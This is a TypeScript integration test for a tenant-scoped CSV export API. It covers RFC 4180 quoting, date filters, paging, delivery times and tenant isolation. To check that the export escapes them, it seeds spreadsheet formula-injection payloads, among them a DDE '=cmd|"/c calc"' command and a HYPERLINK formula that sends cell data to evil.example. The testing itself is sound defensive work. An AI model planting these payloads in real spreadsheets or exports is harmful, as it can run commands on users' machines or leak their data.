// GET /api/v1/completions/export through the HTTP API: RFC 4180 CSV with a header row, UTF-8,
// cells that a spreadsheet would run as formulas made text, quoting that round-trips, claim-time
// filters, keyset pages that neither skip nor repeat claims made in the same millisecond, delivery
// times for Cloud API sends only, and the tenant's claims only.
import { randomUUID } from 'node:crypto';
import type { Prisma } from '../../src/generated/prisma/client.js';
import { EXPORT_COLUMNS } from '../../src/features/claims/tenant-admin/export-claims.js';
import { startTestSystem, type TestSystem } from '../support/system.js';
import { tokens } from '../support/tokens.js';
import { createTwoTenants, endUserSeeder, seedCampaign, seedTask } from '../support/factories.js';

let system: TestSystem;
let tenantId: string;
let otherTenantId: string;
let admin: string;

beforeAll(async () => {
  system = await startTestSystem({ worker: false });
  ({ tenantId, otherTenantId, admin } = await createTwoTenants(system, 'export-a', 'export-b'));
});

afterAll(async () => {
  await system?.stop();
});

const seedEndUser = endUserSeeder(() => system.deps.db, '+5150000');

/** RFC 4180 parsing: quoted fields may hold commas, doubled quotes and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  if (field !== '' || record.length > 0) throw new Error('the CSV does not end with CRLF');
  return records;
}

async function exportCsv(query: string, token = admin) {
  const response = await system.request('GET', `/api/v1/completions/export${query}`, { token });
  return { ...response, records: response.status === 200 ? parseCsv(response.text) : [] };
}

const column = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);

async function claim(task: { id: string; campaignId: string }, user: { id: string }, data: Partial<Prisma.ClaimUncheckedCreateInput> = {}) {
  const id = randomUUID();
  return system.deps.db.claim.create({
    data: { id, tenantId, campaignId: task.campaignId, taskId: task.id, userId: user.id, workflowId: `claim-${id}`, ...data },
  });
}

test('header row, every claim of the campaign in claim-time order, hostile text made safe and round-tripped', async () => {
  const campaign = await seedCampaign(system.deps.db, tenantId);
  const task = {
    ...(await seedTask(system.deps.db, tenantId, campaign.id, { title: '=cmd|"/c calc"!A1', spinsReward: 3 })),
    campaignId: campaign.id,
  };
  const names = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+2',
    '-3',
    '@SUM(A1:A9)',
    'Ana, "la" Pérez\nline two',
    'José Ñandú 🎉',
    '\tTabbed',
  ];
  const rows = [];
  for (const [index, name] of names.entries()) {
    const user = await seedEndUser(tenantId, { name, instagramUsername: index === 0 ? '@handle' : `user${index}` });
    rows.push(await claim(task, user, { claimedAt: new Date(Date.UTC(2030, 0, 1, 0, 0, index)), handle: index === 1 ? '-handle' : null }));
  }
  const response = await exportCsv(`?campaignId=${campaign.id}`);
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="completions-\d{4}-\d{2}-\d{2}\.csv"$/);
  const [header, ...records] = response.records;
  expect(header).toEqual([...EXPORT_COLUMNS]);
  expect(records.map((record) => record[column('claim_id')])).toEqual(rows.map((row) => row.id));
  // Every cell that a spreadsheet would evaluate starts with ' instead; everything else is unchanged.
  expect(records.map((record) => record[column('end_user_name')])).toEqual([
    `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
    "'+1+2",
    "'-3",
    "'@SUM(A1:A9)",
    'Ana, "la" Pérez\nline two',
    'José Ñandú 🎉',
    "'\tTabbed",
  ]);
  expect(records[0]![column('task_title')]).toBe(`'=cmd|"/c calc"!A1`);
  expect(records[0]![column('instagram_username')]).toBe("'@handle");
  expect(records[1]![column('handle')]).toBe("'-handle");
  expect(records[0]![column('claimed_at')]).toBe('2030-01-01T00:00:00.000Z');
  expect(records[0]![column('spins_awarded')]).toBe('0');
  expect(records[0]![column('status')]).toBe('PENDING');
  // No cell of any record begins with a formula character.
  for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});

test('claim-time filters: from inclusive, to exclusive; bad filters are 422', async () => {
  const campaign = await seedCampaign(system.deps.db, tenantId);
  const task = { ...(await seedTask(system.deps.db, tenantId, campaign.id, { spinsReward: 1 })), campaignId: campaign.id };
  const times = ['2031-01-01T00:00:00Z', '2031-01-02T00:00:00Z', '2031-01-03T00:00:00Z'];
  const rows = [];
  for (const at of times) rows.push(await claim(task, await seedEndUser(tenantId), { claimedAt: new Date(at) }));
  const response = await exportCsv(`?campaignId=${campaign.id}&from=2031-01-02T00:00:00Z&to=2031-01-03T00:00:00Z`);
  expect(response.records.slice(1).map((record) => record[0])).toEqual([rows[1]!.id]);
  expect((await exportCsv(`?campaignId=${campaign.id}&from=2031-01-02T00:00:00%2B01:00`)).records.slice(1).map((r) => r[0])).toEqual([
    rows[1]!.id,
    rows[2]!.id,
  ]);
  for (const bad of ['?from=yesterday', '?to=2031-13-01T00:00:00Z', '?from=2031-01-03T00:00:00Z&to=2031-01-02T00:00:00Z']) {
    const refused = await exportCsv(bad);
    expect(refused.status).toBe(422);
    expect(refused.body.error.code).toBe('VALIDATION_FAILED');
  }
});

test('pages of claims made in the same millisecond: every claim once', async () => {
  const campaign = await seedCampaign(system.deps.db, tenantId);
  const task = await seedTask(system.deps.db, tenantId, campaign.id, { spinsReward: 1 });
  const count = 2_345;
  const sameInstant = new Date('2032-06-01T12:00:00.123Z');
  await system.database.query(
    `INSERT INTO "EndUser" (id, "tenantId", name, phone, "updatedAt")
       SELECT 'bulk-' || i, $1, 'Bulk ' || i, '+5141' || lpad(i::text, 7, '0'), now() FROM generate_series(1, $2::int) i`,
    [tenantId, count],
  );
  await system.database.query(
    `INSERT INTO "SocialTaskCompletion" (id, "tenantId", "campaignId", "taskId", "userId", "workflowId", "claimedAt", "updatedAt")
       SELECT gen_random_uuid()::text, $1, $2, $3, 'bulk-' || i, 'claim-bulk-' || i, $4, now() FROM generate_series(1, $5::int) i`,
    [tenantId, campaign.id, task.id, sameInstant, count],
  );
  const response = await exportCsv(`?campaignId=${campaign.id}`);
  const ids = response.records.slice(1).map((record) => record[0]!);
  expect(ids).toHaveLength(count);
  expect(new Set(ids).size).toBe(count);
});

test('delivery and read times for Cloud API sends only; another tenant’s claims never appear', async () => {
  const campaign = await seedCampaign(system.deps.db, tenantId);
  const task = { ...(await seedTask(system.deps.db, tenantId, campaign.id, { spinsReward: 1 })), campaignId: campaign.id };
  const sent = { status: 'VERIFIED' as const, notificationStatus: 'READ' as const, notificationSentAt: new Date('2033-01-01T00:00:05Z') };
  const cloud = await claim(task, await seedEndUser(tenantId), {
    ...sent,
    notificationChannel: 'WHATSAPP_CLOUD',
    notificationProviderMessageId: 'wamid.export-1',
  });
  // A custom provider chose the same message id: Meta's statuses for it are not this claim's.
  await claim(task, await seedEndUser(tenantId), {
    ...sent,
    notificationChannel: 'TENANT_PROVIDER',
    notificationProviderMessageId: 'wamid.export-1',
  });
  await system.deps.db.messageStatusEvent.createMany({
    data: [
      { providerMessageId: 'wamid.export-1', status: 'delivered', occurredAt: new Date('2033-01-01T00:00:07Z') },
      { providerMessageId: 'wamid.export-1', status: 'read', occurredAt: new Date('2033-01-01T00:01:00Z') },
    ],
  });
  const [, ...records] = (await exportCsv(`?campaignId=${campaign.id}`)).records;
  const byChannel = Object.fromEntries(records.map((record) => [record[column('notification_channel')], record]));
  expect(byChannel.WHATSAPP_CLOUD![column('claim_id')]).toBe(cloud.id);
  expect(byChannel.WHATSAPP_CLOUD![column('notification_sent_at')]).toBe('2033-01-01T00:00:05.000Z');
  expect(byChannel.WHATSAPP_CLOUD![column('notification_delivered_at')]).toBe('2033-01-01T00:00:07.000Z');
  expect(byChannel.WHATSAPP_CLOUD![column('notification_read_at')]).toBe('2033-01-01T00:01:00.000Z');
  expect(byChannel.TENANT_PROVIDER![column('notification_delivered_at')]).toBe('');
  expect(byChannel.TENANT_PROVIDER![column('notification_read_at')]).toBe('');

  // The other tenant: its campaign is 404 here, and its claims are in no export of ours.
  const theirs = await seedCampaign(system.deps.db, otherTenantId);
  const theirTask = await seedTask(system.deps.db, otherTenantId, theirs.id, { spinsReward: 1 });
  const theirUser = await seedEndUser(otherTenantId);
  const id = randomUUID();
  await system.deps.db.claim.create({
    data: { id, tenantId: otherTenantId, campaignId: theirs.id, taskId: theirTask.id, userId: theirUser.id, workflowId: `claim-${id}` },
  });
  expect((await exportCsv(`?campaignId=${theirs.id}`)).status).toBe(404);
  const everything = await exportCsv('');
  expect(everything.status).toBe(200);
  expect(everything.records.some((record) => record[0] === id)).toBe(false);
  expect(everything.records.some((record) => record[0] === cloud.id)).toBe(true);
  const theirExport = await exportCsv('', tokens.tenantAdmin(otherTenantId));
  expect(theirExport.records.slice(1).map((record) => record[0])).toEqual([id]);
  // End users may not export.
  expect((await exportCsv('', tokens.endUser(tenantId, theirUser.id))).status).toBe(403);
});
